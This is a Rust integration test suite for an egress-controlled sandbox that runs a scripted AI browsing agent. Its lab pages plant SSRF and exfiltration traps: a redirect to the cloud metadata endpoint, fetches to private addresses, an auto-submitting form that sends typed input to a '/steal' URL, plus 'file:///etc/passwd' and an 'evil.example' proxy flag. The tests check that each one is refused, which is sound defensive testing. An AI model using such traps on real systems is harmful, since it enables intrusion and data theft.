//! The end-to-end scenarios `cargo xtask integration` runs and tabulates: the real `airlock`
//! binary, the real image, Chromium and agent-browser, the real proxy, a scripted worker, a site on
//! this machine reached only through an exact `--allow` entry, and a DNS responder on loopback for
//! lab names (the proxy's `--nameserver`).

// Scenario tests read top to bottom; splitting them would hide the story.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::too_many_lines)]

mod support;

use std::collections::HashMap;
use std::net::Ipv4Addr;
use std::process::Command;

use airlock_testkit::dns::dns;
use airlock_testkit::docker::{containers_of, docker_ready, egress_dir_of};
use airlock_testkit::site::{Seen, site};
use serde_json::json;
use support::scripted::{call, no_task_containers_left, page, refusals, task};
use support::spawn_task_at_first_step;

fn lab_site() -> (u16, Seen) {
    site(|_| {
        HashMap::from([
            (
                "/",
                page("<h1>Lab home</h1><a href=\"/second\">Second page</a>"),
            ),
            (
                "/second",
                page("<h1>Second</h1><p id=\"fact\">The reactor was commissioned in 1957.</p>"),
            ),
            (
                "/redirect",
                (
                    "302 Found",
                    "location: http://169.254.169.254/latest/meta-data/\r\n".to_owned(),
                    String::new(),
                ),
            ),
        ])
    })
}

#[test]
fn scenario_1_open_click_read_and_keep_a_screenshot() {
    if !docker_ready() {
        return;
    }
    let (port, _) = lab_site();
    let dir = tempfile::tempdir().unwrap();
    let script = json!({"turns": [
        {"tool_calls": [call(&json!(["open", format!("http://127.0.0.1:{port}/")]))]},
        {"expect": {"shown_contains": [format!("http://127.0.0.1:{port}/")]}, "tool_calls": [call(&json!(["find", "text", "Second page", "click"]))]},
        {"tool_calls": [call(&json!(["get", "text", "#fact"]))]},
        {"expect": {"shown_contains": ["commissioned in 1957"]},
         "tool_calls": [{"name": "agent_browser", "input": {"args": ["screenshot"], "keep": true}}]},
        {"expect": {"shown_images": 1}, "text": "Commissioned in 1957 (per the second page)."}
    ]});
    let out = dir.path().join("shots");
    let (result, output) = task(
        dir.path(),
        &script,
        &[
            "--allow",
            &format!("127.0.0.1:{port}"),
            "--out",
            out.to_str().unwrap(),
        ],
    );
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert_eq!(result["ended"], "completed", "{result}");
    assert_eq!(
        result["report"],
        "Commissioned in 1957 (per the second page)."
    );
    let png = std::fs::read(result["screenshots"][0]["path"].as_str().unwrap()).unwrap();
    assert!(
        png.starts_with(b"\x89PNG\r\n\x1a\n") && png.len() > 1000,
        "not a valid PNG"
    );
    no_task_containers_left();
}

#[test]
fn scenario_2_without_the_allow_entry_the_site_is_refused_as_loopback() {
    if !docker_ready() {
        return;
    }
    let (port, seen) = lab_site();
    let dir = tempfile::tempdir().unwrap();
    let script = json!({"turns": [
        {"tool_calls": [call(&json!(["open", format!("http://127.0.0.1:{port}/")]))]},
        {"expect": {"shown_contains": ["The egress proxy refused", "loopback address 127.0.0.1"]}, "text": "The site is unreachable."}
    ]});
    let (result, _) = task(dir.path(), &script, &[]);
    assert_eq!(result["ended"], "completed", "{result}");
    let reasons = refusals(&result, "reason");
    assert!(
        reasons
            .iter()
            .any(|r| r.starts_with("loopback address 127.0.0.1")),
        "{reasons:?}"
    );
    assert!(
        seen.lock().unwrap().is_empty(),
        "the site was reached without an allow entry"
    );
    no_task_containers_left();
}

#[test]
fn scenario_3_every_trap_on_an_allowed_page_is_refused_and_the_page_still_loads() {
    if !docker_ready() {
        return;
    }
    // A second loopback server the iframe aims at; it must never be reached.
    let (other, other_seen) = site(|_| HashMap::from([("/frame", page("<p>must not load</p>"))]));
    let (port, seen) = site(|port| {
        let traps = format!(
            "<h1>Traps</h1><p id=\"ok\">allowed content</p>\
             <iframe src=\"http://127.0.0.1:{other}/frame\"></iframe>\
             <img src=\"http://2130706433/pixel.png\"><img src=\"/redirect\">\
             <img src=\"http://private.lab:{port}/x.png\">\
             <img src=\"http://alt.lab:{port}/a.png\">\
             <script>fetch('http://10.0.0.3/secret').catch(() => {{}}); \
             try {{ new WebSocket('ws://10.0.0.4/socket'); }} catch (e) {{}}</script>"
        );
        HashMap::from([
            ("/", page(&traps)),
            (
                "/redirect",
                (
                    "302 Found",
                    "location: http://169.254.169.254/latest/meta-data/\r\n".to_owned(),
                    String::new(),
                ),
            ),
        ])
    });
    let resolver = dns(HashMap::from([
        ("private.lab", vec![Ipv4Addr::new(10, 0, 0, 1)]),
        (
            "alt.lab",
            vec![Ipv4Addr::LOCALHOST, Ipv4Addr::new(10, 0, 0, 2)],
        ),
    ]));
    let dir = tempfile::tempdir().unwrap();
    let script = json!({"turns": [
        {"tool_calls": [call(&json!(["open", format!("http://127.0.0.1:{port}/")]))]},
        {"tool_calls": [call(&json!(["wait", "2000"]))]},
        {"tool_calls": [call(&json!(["get", "text", "#ok"]))]},
        // Later, separate lookups of alt.lab get its other answers (concurrent ones may share one).
        {"expect": {"shown_contains": ["allowed content"]},
         "tool_calls": [call(&json!(["open", format!("http://alt.lab:{port}/b.png")]))]},
        {"tool_calls": [call(&json!(["open", format!("http://alt.lab:{port}/c.png")]))]},
        {"text": "The page loaded; its traps were refused."}
    ]});
    let (result, output) = task(
        dir.path(),
        &script,
        &[
            "--allow",
            &format!("127.0.0.1:{port}"),
            "--nameserver",
            &format!("127.0.0.1:{resolver}"),
        ],
    );
    assert_eq!(
        result["ended"],
        "completed",
        "{result}\n{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let refused = refusals(&result, "target");
    let reasons = refusals(&result, "reason");
    let expect = |target: &str| {
        assert!(
            refused.iter().any(|t| t == target),
            "{target} was not refused: {refused:#?}"
        );
    };
    expect("http://169.254.169.254/latest/meta-data/");
    expect(&format!("http://127.0.0.1:{other}/frame"));
    expect("http://10.0.0.3/secret");
    expect("10.0.0.4:80");
    expect("http://127.0.0.1/pixel.png");
    expect(&format!("http://private.lab:{port}/x.png"));
    assert!(
        reasons
            .iter()
            .any(|r| r.contains("`private.lab` resolves to private address 10.0.0.1")),
        "{reasons:#?}"
    );
    // alt.lab answers 127.0.0.1 and 10.0.0.2 in turn: some of its requests are served, others refused.
    let alt = format!("http://alt.lab:{port}/");
    assert!(
        refused.iter().any(|t| t.starts_with(&alt)),
        "no alt.lab request was refused: {refused:#?}"
    );
    assert!(
        reasons
            .iter()
            .any(|r| r.contains("`alt.lab` resolves to private address 10.0.0.2")),
        "{reasons:#?}"
    );
    // The site records the Host each request named: a request to alt.lab itself was served.
    let served = seen.lock().unwrap().clone();
    let alt_host = format!("alt.lab:{port}");
    assert!(
        served.iter().any(|heard| heard.host == alt_host),
        "no alt.lab request was served while it answered 127.0.0.1: {served:?}"
    );
    assert!(
        other_seen.lock().unwrap().is_empty(),
        "the iframe's loopback server was reached"
    );
    no_task_containers_left();
}

#[test]
fn scenario_4_refused_commands_and_flags_get_reasons() {
    if !docker_ready() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let script = json!({"turns": [
        {"tool_calls": [
            call(&json!(["download", "@e1", "/tmp/x"])),
            call(&json!(["open", "file:///etc/passwd"])),
            call(&json!(["goto", "chrome://settings"])),
            call(&json!(["open", "--proxy=http://evil.example:8080", "https://example.com"]))
        ]},
        {"expect": {"shown_contains": [
            "Refused: `download` is not available",
            "scheme `file:` is refused",
            "scheme `chrome:` is refused",
            "flag `--proxy` is refused"
        ]}, "text": "Each was refused."}
    ]});
    let (result, _) = task(dir.path(), &script, &[]);
    assert_eq!(result["ended"], "completed", "{result}");
    assert_eq!(result["steps_used"], 4);
    assert!(
        result["egress_refusals"].as_array().unwrap().is_empty(),
        "a refused command caused traffic"
    );
    no_task_containers_left();
}

#[test]
fn scenario_5_step_limit_time_out_and_cancellation_leave_no_container() {
    if !docker_ready() {
        return;
    }
    let (port, _) = lab_site();
    let allow = format!("127.0.0.1:{port}");
    let dir = tempfile::tempdir().unwrap();

    let steps = json!({"turns": [
        {"tool_calls": [call(&json!(["open", format!("http://{allow}/")]))]},
        {"tool_calls": [call(&json!(["snapshot"])), call(&json!(["snapshot"]))]},
        {"expect": {"shown_contains": ["Step limit reached"]}, "text": "Out of steps; the page is the lab home."}
    ]});
    let (result, _) = task(dir.path(), &steps, &["--allow", &allow, "--max-steps", "2"]);
    assert_eq!(result["ended"], "step_limit", "{result}");
    assert_eq!(result["steps_used"], 2);
    no_task_containers_left();

    let slow = json!({"turns": [
        {"tool_calls": [call(&json!(["open", format!("http://{allow}/")]))]},
        {"text": "Keeping one, then waiting.", "tool_calls": [{"name": "agent_browser", "input": {"args": ["screenshot"], "keep": true}}]},
        {"tool_calls": [call(&json!(["wait", "60000"]))]}
    ]});
    let (result, output) = task(dir.path(), &slow, &["--allow", &allow, "--timeout", "8"]);
    assert_eq!(output.status.code(), Some(1));
    assert_eq!(result["ended"], "timed_out", "{result}");
    assert!(
        result["report"]
            .as_str()
            .unwrap()
            .contains("timed out after 8 seconds")
    );
    assert_eq!(
        result["screenshots"].as_array().unwrap().len(),
        1,
        "kept screenshots come back after a time-out"
    );
    no_task_containers_left();

    let path = dir.path().join("wait.json");
    std::fs::write(
        &path,
        json!({"turns": [{"tool_calls": [call(&json!(["wait", "60000"]))]}]}).to_string(),
    )
    .unwrap();
    let mut child = spawn_task_at_first_step(&path, &[]);
    assert!(
        Command::new("kill")
            .args(["-INT", &child.id().to_string()])
            .status()
            .unwrap()
            .success()
    );
    assert_eq!(child.wait().unwrap().code(), Some(1));
    no_task_containers_left();
}

#[test]
fn scenario_6_a_killed_host_process_is_cleaned_up_by_airlock_cleanup() {
    if !docker_ready() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("wait.json");
    std::fs::write(
        &path,
        json!({"turns": [{"tool_calls": [call(&json!(["wait", "60000"]))]}]}).to_string(),
    )
    .unwrap();
    let mut child = spawn_task_at_first_step(&path, &[]);
    let pid = child.id();
    child.kill().unwrap(); // SIGKILL: no handler, no cleanup.
    child.wait().unwrap();
    let orphans = containers_of(pid);
    assert_eq!(orphans.len(), 1, "the container outlives its killed owner");
    let egress = egress_dir_of(&orphans[0]);
    assert!(
        egress.join("sockets/proxy.sock").exists(),
        "the proxy directory outlives its killed owner"
    );
    let cleanup = Command::new(assert_cmd::cargo::cargo_bin("airlock"))
        .arg("cleanup")
        .output()
        .unwrap();
    assert!(cleanup.status.success());
    let said = String::from_utf8_lossy(&cleanup.stdout);
    assert!(said.contains("removed airlock-task-"), "{said}");
    assert!(
        said.contains(&format!("removed {}", egress.display())),
        "{said}"
    );
    assert_eq!(
        containers_of(pid).len(),
        0,
        "airlock cleanup left the orphan"
    );
    assert!(
        !egress.exists(),
        "airlock cleanup left {}",
        egress.display()
    );
}

#[test]
fn scenario_8_what_the_proxy_saw_reaches_the_worker_the_person_and_the_json() {
    if !docker_ready() {
        return;
    }
    // A lab resolver that knows no name: the proxy gets no answer for nowhere.test.
    let nameserver = format!("127.0.0.1:{}", dns(HashMap::new()));
    let dir = tempfile::tempdir().unwrap();
    let script = json!({"turns": [
        {"tool_calls": [call(&json!(["open", "https://nowhere.test/"]))]},
        {"expect": {"shown_contains": ["The egress proxy could not reach \"nowhere.test:443\"", "`nowhere.test` does not resolve"]},
         "text": "The site does not exist."}
    ]});
    let (result, output) = task(dir.path(), &script, &["--nameserver", &nameserver]);
    assert_eq!(result["ended"], "completed", "{result}");
    let failures = result["egress_failures"].as_array().unwrap();
    assert!(
        failures.iter().any(|f| f["target"] == "nowhere.test:443"
            && f["class"] == "no-dns-answer"
            && f["reason"] == "`nowhere.test` does not resolve"),
        "{result}"
    );
    assert!(output.status.success());

    let browse = Command::new(assert_cmd::cargo::cargo_bin("airlock"))
        .args([
            "browse",
            "https://nowhere.test/",
            "--nameserver",
            &nameserver,
            "--out",
        ])
        .arg(dir.path().join("shots"))
        .env("AIRLOCK_CONFIG", "/nonexistent/airlock.toml")
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&browse.stderr);
    assert_eq!(browse.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains("the page did not open")
            && stderr.contains(
                "The egress proxy could not reach \"nowhere.test:443\": `nowhere.test` does not resolve"
            ),
        "{stderr}"
    );
    no_task_containers_left();
}

#[test]
fn scenario_9_a_scoped_task_reaches_only_its_named_site() {
    if !docker_ready() {
        return;
    }
    // Another lab host the address rule opens (--allow), so only the scope keeps the page off it.
    let (elsewhere, heard_elsewhere) = site(|_| HashMap::from([("/", page("elsewhere"))]));
    let (port, _) = site(|port| {
        let _ = port;
        let hostile = format!(
            "<p id=\"ok\">in-scope content</p>\
             <img src=\"http://cdn.lab:{elsewhere}/pixel.png\">\
             <script>fetch('http://other.lab:{elsewhere}/fetch').catch(() => {{}}); \
             try {{ new WebSocket('ws://other.lab:{elsewhere}/ws'); }} catch (e) {{}}</script>"
        );
        let form = format!(
            "<form id=\"f\" method=\"post\" action=\"http://other.lab:{elsewhere}/steal\">\
             <input name=\"typed\" value=\"what the user typed\"></form>\
             <script>document.getElementById('f').submit();</script>"
        );
        HashMap::from([
            ("/", page(&hostile)),
            ("/form", page(&form)),
            (
                "/go",
                (
                    "302 Found",
                    format!("location: http://other.lab:{elsewhere}/landing\r\n"),
                    String::new(),
                ),
            ),
        ])
    });
    let resolver = dns(HashMap::from([
        ("shop.lab", vec![Ipv4Addr::LOCALHOST]),
        ("cdn.lab", vec![Ipv4Addr::LOCALHOST]),
        ("other.lab", vec![Ipv4Addr::LOCALHOST]),
    ]));
    let dir = tempfile::tempdir().unwrap();
    let shop = format!("http://shop.lab:{port}");
    let script = json!({"turns": [
        {"tool_calls": [call(&json!(["open", format!("{shop}/")]))]},
        {"tool_calls": [call(&json!(["wait", "2000"]))]},
        {"tool_calls": [call(&json!(["get", "text", "#ok"]))]},
        {"expect": {"shown_contains": ["in-scope content"]},
         "tool_calls": [call(&json!(["open", format!("{shop}/form")]))]},
        {"tool_calls": [call(&json!(["open", format!("{shop}/go")]))]},
        {"tool_calls": [call(&json!(["open", format!("http://127.0.0.1:{port}/")]))]},
        {"text": "Only shop.lab was reached."}
    ]});
    let (result, output) = task(
        dir.path(),
        &script,
        &[
            "--allow",
            &format!("127.0.0.1:{port}"),
            "--allow",
            &format!("127.0.0.1:{elsewhere}"),
            "--nameserver",
            &format!("127.0.0.1:{resolver}"),
            "--allowed-domain",
            "shop.lab",
        ],
    );
    assert_eq!(
        result["ended"],
        "completed",
        "{result}\n{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert_eq!(result["scope"]["allowed_domains"], json!(["shop.lab"]));
    let refused = refusals(&result, "target");
    let reasons = refusals(&result, "reason");
    for target in [
        format!("http://cdn.lab:{elsewhere}/pixel.png"),
        format!("http://other.lab:{elsewhere}/fetch"),
        format!("other.lab:{elsewhere}"),
        format!("http://other.lab:{elsewhere}/steal"),
        format!("http://other.lab:{elsewhere}/landing"),
        format!("http://127.0.0.1:{port}/"),
    ] {
        assert!(
            refused.contains(&target),
            "{target} was not refused: {refused:#?}"
        );
    }
    assert!(
        reasons
            .iter()
            .any(|r| r.contains("`cdn.lab` is out of this task's scope")),
        "{reasons:#?}"
    );
    assert!(
        result["egress_refusals_by_class"]["out-of-scope"]
            .as_u64()
            .unwrap()
            >= 6,
        "{result}"
    );
    assert!(
        heard_elsewhere.lock().unwrap().is_empty(),
        "an out-of-scope host was reached: {:?}",
        heard_elsewhere.lock().unwrap()
    );
    no_task_containers_left();
}
